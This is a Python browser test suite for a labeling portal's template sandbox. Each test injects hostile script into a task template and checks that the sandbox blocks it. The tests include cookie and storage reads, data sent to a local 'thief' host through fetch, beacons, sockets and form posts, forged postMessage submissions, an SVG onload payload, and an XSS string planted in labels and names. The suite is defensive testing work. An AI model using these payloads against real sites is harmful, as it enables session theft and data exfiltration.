"""A task's page is whoever's wrote it. Each test is an attack; what it must not get is in its name."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.browser.engines import not_in
from tests.browser.portal.conftest import Desk
from tests.portal_world import BOXES, JOB, PortalWorld, rotated_jpeg
from tests.waiting import soon

REPORT = """
window.got = {};
const attempt = async (name, act) => {
  try { got[name] = String(await act()); } catch (error) { got[name] = "refused: " + (error.name || error); }
};
"""

TELL_REFUSAL = "document.addEventListener('securitypolicyviolation', () => { window.isRefused = true });"

ALONE = not_in("webkit", "its driver loses the browser after a page that is a sandbox of its own")


@pytest.fixture
def thief() -> Iterator[Any]:
    """Another host that writes down what it is sent."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            thief.seen.append(self.path)  # type: ignore[attr-defined]
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the base class's names

        def log_message(self, *_: Any) -> None:
            pass

    thief = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thief.seen = []  # type: ignore[attr-defined]
    threading.Thread(target=thief.serve_forever, daemon=True).start()
    yield thief
    thief.shutdown()
    thief.server_close()


def hostile(desk: Desk, world: PortalWorld, script: str, **job: Any) -> dict[str, str]:
    """What a script in a template gets; `attempt(name, act)` writes it down."""
    world.add_job(template=f"{BOXES}<script>{REPORT}{script};got.end = 'end';</script>", **{"count": 2, **job})
    desk.open_job()
    got: dict[str, str] = soon(lambda: desk.frame().execute_script("return window.got?.end && window.got"), 20)
    return got


def is_refused(desk: Desk) -> Any:
    """Whether the browser told of what it keeps a page from: on its console or, where that cannot be read, the page."""
    told = desk.browser.get_log("browser")  # type: ignore[no-untyped-call]
    return told or desk.browser.execute_script("return window.isRefused")


def test_the_session_and_all_that_the_browser_keeps(desk: Desk, world: PortalWorld) -> None:
    got = hostile(
        desk,
        world,
        """
        attempt("cookie", () => document.cookie);
        attempt("storage", () => localStorage.length);
        attempt("session storage", () => sessionStorage.length);
        attempt("parent", () => parent.document.title);
        attempt("parent's address", () => parent.location.href);
        attempt("top", () => top.document.cookie);
        attempt("frames beside it", () => parent.frames[0].document.title + parent.frames[1].document.title);
        attempt("origin", () => origin);
        """,
    )
    assert got.pop("origin") == "null"
    got.pop("end")
    assert len(got) == 7
    assert set(got.values()) == {"refused: SecurityError"}


def test_the_network(desk: Desk, world: PortalWorld, thief: Any) -> None:
    port = thief.server_address[1]
    got = hostile(
        desk,
        world,
        f"""
        const elsewhere = "http://127.0.0.1:{port}/stolen";
        attempt("fetch", () => fetch(elsewhere));
        attempt("own server", () => fetch("/session"));
        attempt("beacon", () => navigator.sendBeacon(elsewhere, "x"));
        attempt("socket", () => new Promise((_, no) => {{ new WebSocket("ws://127.0.0.1:{port}/").onerror = no; }}));
        new Image().src = elsewhere + "?image";
        const link = document.createElement("link");
        link.rel = "stylesheet"; link.href = elsewhere + "?sheet"; document.head.append(link);
        const script = document.createElement("script");
        script.src = elsewhere + "?script"; document.head.append(script);
        const frame = document.createElement("iframe");
        frame.src = elsewhere + "?frame"; document.body.append(frame);
        attempt("window", () => window.open(elsewhere + "?window"));
        """,
    )
    desk.draw()
    desk.until_saved()
    desk.frame().execute_script(
        f"{TELL_REFUSAL} const form = document.createElement('form'); form.method = 'post';"
        f"form.action = 'http://127.0.0.1:{port}/?form'; document.body.append(form); try {{ form.submit() }} catch {{}}"
    )
    soon(lambda: is_refused(desk), 20)
    assert thief.seen == []
    assert got["fetch"].startswith("refused")
    assert got["own server"].startswith("refused")


def test_the_tab_cannot_be_led_elsewhere(desk: Desk, world: PortalWorld, thief: Any) -> None:
    elsewhere = f"http://127.0.0.1:{thief.server_address[1]}/"
    hostile(
        desk,
        world,
        f"""
        attempt("top", () => {{ top.location = "{elsewhere}?top"; }});
        attempt("parent", () => {{ parent.location.href = "{elsewhere}?parent"; }});
        """,
    )
    desk.browser.switch_to.default_content()
    desk.browser.execute_script(TELL_REFUSAL)
    desk.frame().execute_script(f"location = '{elsewhere}?own'")
    desk.browser.switch_to.default_content()
    soon(lambda: is_refused(desk), 20)
    assert desk.browser.current_url == f"{world.url}/jobs/{JOB}"
    assert thief.seen == []


def test_messages_to_the_page_around_it_do_nothing(desk: Desk, world: PortalWorld) -> None:
    """All goes through one port, and the first of it is the elements'; a message beside it is nobody's."""
    hostile(
        desk,
        world,
        """
        for (const type of ["submit", "draft", "ready", "connect", "valid"]) {
          for (const to of [parent, top, parent.frames[0]]) {
            to?.postMessage({type, answer: {boundingBox: {boundingBoxes: []}}, value: "forged", task: "x"}, "*");
          }
        }
        """,
    )
    desk.draw()
    desk.until_saved()
    assert desk.answers() == []
    drafts = [body for key, body in world.objects.contents.items() if "/drafts/" in key]
    assert all(b"forged" not in body for body in drafts)


def test_the_port_cannot_be_taken_by_a_script_that_is_there_first(desk: Desk, world: PortalWorld) -> None:
    """It may catch the port: then it says what a page could say anyway, and the server checks that."""
    hostile(
        desk,
        world,
        """
        addEventListener("message", (event) => {
          const port = event.ports[0];
          if (!port) return;
          port.postMessage({type: "submit", answer: {boundingBox: {boundingBoxes: []}}});
          for (const odd of [null, 1, "x", [], {type: "toString"}, {type: "__proto__"}, {type: "submit", answer: []},
            {type: "key", key: 5}, {type: "valid", canSubmit: "yes", message: {}},
            {type: "draft", value: "x".repeat(9 * 1024 * 1024)}]) port.postMessage(odd);
        }, {capture: true});
        """,
    )
    desk.draw()
    desk.until_saved()
    assert desk.answers() == [], "nothing is submitted before the worker's clock runs"


@ALONE
def test_opened_by_its_address_a_page_gets_no_more(desk: Desk, world: PortalWorld) -> None:
    script = 'attempt("cookie", () => document.cookie); attempt("storage", () => localStorage.length);'
    hostile(desk, world, script)
    address = desk.shown()
    assert address
    desk.browser.get(address)
    got = soon(lambda: desk.browser.execute_script("return window.got?.end && window.got"), 20)
    assert got["cookie"] == got["storage"] == "refused: SecurityError"
    assert desk.browser.execute_script("return origin") == "null"


@ALONE
def test_a_picture_opened_by_its_address_runs_nothing(desk: Desk, world: PortalWorld) -> None:
    run = "document.title = 1"
    body = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'><script>{run}</script></svg>".encode()
    world.add_job(count=1, image=lambda _: body)
    desk.open_job()
    source = desk.frame().execute_script("return document.querySelector('crowd-bounding-box').getAttribute('src')")
    desk.browser.get(source)
    assert desk.browser.title == ""
    assert "<svg" in desk.browser.find_element("css selector", "pre").text


def test_words_of_an_object_are_words(desk: Desk, world: PortalWorld) -> None:
    """A label, a title or a name with markup in it runs nowhere, neither in the frame nor around it."""
    evil = "<img src=x onerror=\"document.title='run'\">"
    world.add_job(count=1, labels=(evil, "Nest"), title=evil)
    desk.sign_in(name=f"Eve {evil}", manager=True)
    for path in ("/jobs", "/team", f"/team/jobs/{JOB}", "/me"):
        desk.browser.get(world.url + path)
        assert desk.browser.title != "run"
    desk.open_job()
    desk.draw()
    desk.frame()
    assert desk.browser.execute_script("return document.title") != "run"
    desk.browser.switch_to.default_content()
    assert desk.browser.title == evil


def test_another_site_cannot_frame_the_portal(desk: Desk, world: PortalWorld) -> None:
    world.add_job(count=1)
    desk.browser.get(
        f"data:text/html,<iframe src='{world.url}/jobs'></iframe><iframe src='{world.url}/jobs/{JOB}'></iframe>"
    )
    for number in range(2):
        desk.browser.switch_to.default_content()
        desk.browser.switch_to.frame(number)
        assert "Draw a box" not in desk.browser.page_source


def test_a_turned_photo_has_the_size_that_people_see(desk: Desk, world: PortalWorld) -> None:
    world.add_job(count=1, image=lambda _: rotated_jpeg(640, 480))
    desk.open_job()
    desk.draw(width=30, height=30, left=-15, top=-15)
    assert desk.value()["inputImageProperties"] == {"height": 640, "width": 480}
